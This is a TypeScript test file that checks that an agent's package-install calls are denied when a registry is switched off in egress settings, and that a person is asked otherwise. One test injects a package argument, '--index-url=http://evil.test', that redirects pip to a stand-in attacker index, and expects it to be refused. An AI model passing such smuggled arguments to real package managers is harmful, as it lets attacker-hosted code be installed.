/** A registry that is switched off: the call is denied with the broker's message, before a person is asked and before anything runs. */
import assert from 'node:assert/strict';
import { afterEach, test } from 'node:test';
import { PACKAGE_MANAGERS, REGISTRY_OF, type PackageManager } from '@hamlet/contract';
import { registryOff } from '@hamlet/core/egress';
import { dataOf, refuses } from '@hamlet/test/env/client';
import { testVillage } from '../../testing/test-village.ts';
import { PermissionPlay, type Working } from '../testing/permission-play.ts';

const ASKING = JSON.stringify([
  { tools: ['read', 'exec', 'install'], verdict: 'allow' },
  { tools: ['install_package'], verdict: 'ask', reason: 'A person decides on packages' },
]);
const OPEN = JSON.stringify([{ tools: ['read', 'exec', 'install', 'network'], verdict: 'allow' }]);
let calls = 0;

const village = await testVillage();
const registries = { pip: true, crates: { url: 'https://crates.home/' } };
const file = await village.writeSample('egress.json', JSON.stringify({ registries }));
const urlOf = async (rules: string): Promise<string> =>
  (await village.startReplica({ HAMLET_TOOL_RULES: rules, HAMLET_EGRESS_FILE: file })).peopleUrl;
const [asking, open] = [new PermissionPlay(await urlOf(ASKING)), new PermissionPlay(await urlOf(OPEN))];
await asking.play.everybody();
afterEach(() => asking.endAll());

const NAMES: Readonly<Record<PackageManager, string>> = {
  apt: 'jq',
  pip: 'flask',
  npm: 'left-pad',
  cargo: 'serde',
  go: 'rsc.io/quote',
};
const argsOf = (manager: PackageManager) => ({ manager, packages: [NAMES[manager]] });
const callOf = (manager: PackageManager) => ({
  tool: 'install_package' as const,
  callId: `${(calls += 1)}.0`,
  args: argsOf(manager),
});

const begun = (working: Working, manager: PackageManager, by = asking) => by.begin(working, callOf(manager));

test('a call for a registry that is off is denied, naming its setting; for one that is on, a person is asked', async () => {
  const working = await asking.startRun('ada');
  for (const manager of PACKAGE_MANAGERS) {
    const answer = await begun(working, manager);
    if (manager === 'pip' || manager === 'cargo') {
      assert.equal(answer.ok ? answer.data.state : answer.problem.code, 'permission_needed', manager);
      assert.equal(dataOf(await asking.ask(working, callOf(manager))).permission.state, 'pending', manager);
      continue;
    }
    const { state, outcome } = dataOf(answer);
    assert.deepEqual([state, outcome?.code], ['denied', 'egress_registry_off'], manager);
    const said = outcome?.text ?? '';
    assert.ok(said.includes(registryOff(REGISTRY_OF[manager]).message), said);
    await refuses(asking.ask(working, callOf(manager)), 'policy_denied', manager);
  }
});

test('an installation that has reached no registry taints no run, and the rules treat it as an installation', async () => {
  const working = await asking.startRun('bob');
  assert.equal(dataOf(await begun(working, 'pip', open)).state, 'begun');
  const { run } = await asking.play.admin.getRun({ run_id: working.runId });
  assert.equal(run.taint, undefined);
  const body = { cycle: working.cycle, attempt: working.attempt, tool: 'install_package', boot: 'b1' };
  const wrong = { ...body, arguments: JSON.stringify({ manager: 'pip', packages: ['--index-url=http://evil.test'] }) };
  const params = { run_id: working.runId, call_id: `${(calls += 1)}.0` };
  await refuses(open.play.as('bob').beginCall({ ...params, ...wrong }), 'permission_needed');
});
